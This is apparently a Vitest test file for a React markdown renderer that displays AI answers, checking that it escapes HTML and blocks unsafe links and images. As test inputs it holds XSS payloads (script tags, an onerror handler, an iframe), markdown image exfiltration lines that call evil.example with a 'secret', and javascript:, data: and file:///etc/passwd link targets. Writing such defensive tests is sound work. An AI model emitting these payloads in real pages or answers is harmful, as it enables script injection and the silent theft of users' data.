import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { AnswerText } from "./answer-text";
import { StreamingText } from "./streaming-text";

const render = (text: string) => renderToStaticMarkup(<AnswerText text={text} />);

describe("the text of an answer", () => {
  it("keeps emphasis, lists, tables and code", () => {
    const html = render(
      "**5,076 g** and `df`\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```python\nx = 1\n```",
    );
    for (const part of ["<strong>5,076 g</strong>", "<code>df</code>", "<li>one</li>", "<td>1</td>", "x = 1"]) {
      expect(html).toContain(part);
    }
  });

  it("shows HTML as text and never as elements", () => {
    const html = render(
      'Hi <img src=x onerror="alert(1)"> <b>there</b>\n\n<script>alert(1)</script>\n\n<iframe src="//evil.example"></iframe>',
    );
    expect(html.match(/<(img|script|iframe|b)[\s>]/g)).toBeNull();
    expect(html).toContain("&lt;script&gt;");
  });

  it("asks no server for an image, however it is written", () => {
    const html = render("![secret](http://evil.example/?d=1)\n\n![again][1]\n\n[1]: http://evil.example/2.png");
    expect(html).not.toMatch(/src=|evil\.example/);
    expect(html).toContain("secret");
  });

  it("links to web pages with the host in sight, and to nothing else", () => {
    const good = render("[the docs](https://docs.example/page)");
    expect(good).toContain('href="https://docs.example/page"');
    expect(good).toContain('rel="noopener noreferrer nofollow"');
    expect(good).toContain("(docs.example)");
    for (const address of [
      "javascript:alert(1)",
      "data:text/html,x",
      "file:///etc/passwd",
      "/api/sessions",
      "//evil.example/x",
    ]) {
      expect(render(`[text](${address})`)).not.toContain("href");
    }
  });

  it("takes no style, class or handler from the text", () => {
    expect(
      render('<p style="background:url(http://evil.example)" onclick="x()" class="fixed inset-0">text</p>'),
    ).not.toMatch(/<[^>]*(style|onclick|inset)/);
  });

  it("keeps headings below those of the page, the start of numbered lists, task marks, and character entities", () => {
    const html = render(
      "# One\n\n#### Four\n\n3. three\n4. four\n\n- [x] done\n- [ ] open\n\na &lt; b ~~c~~  \nd \\* e\n\n---",
    );
    expect(html.match(/<(h\d|ol|del|br|hr)[^>]*>/g)).toEqual([
      "<h3>",
      "<h4>",
      '<ol start="3">',
      "<del>",
      "<br/>",
      "<hr/>",
    ]);
    for (const part of ["☑", "☐", "a &lt; b", "d * e"]) expect(html).toContain(part);
  });

  it("renders unfinished markup as if it were closed while it is written", () => {
    const html = renderToStaticMarkup(<StreamingText text="Gentoo weigh **5,07" />);
    expect(html).toContain("<strong>5,07</strong>");
    expect(render("Gentoo weigh **5,07")).toContain("**5,07");
  });

  it.each([">", "- ", "*", "[", "`", "|", "&#"])("survives any number of repetitions of %j", (part) => {
    const html = render(`${part.repeat(3_000)}\n\nthe end`);
    expect(html).toContain("the end");
  });

  it("stays plain text where lists are nested absurdly deep", () => {
    const levels = Array.from({ length: 600 }, (_, level) => `${"  ".repeat(level)}- level`);
    expect(render(levels.join("\n"))).not.toContain("<li>");
    expect(render(levels.slice(0, 5).join("\n"))).toContain("<li>");
  });
});
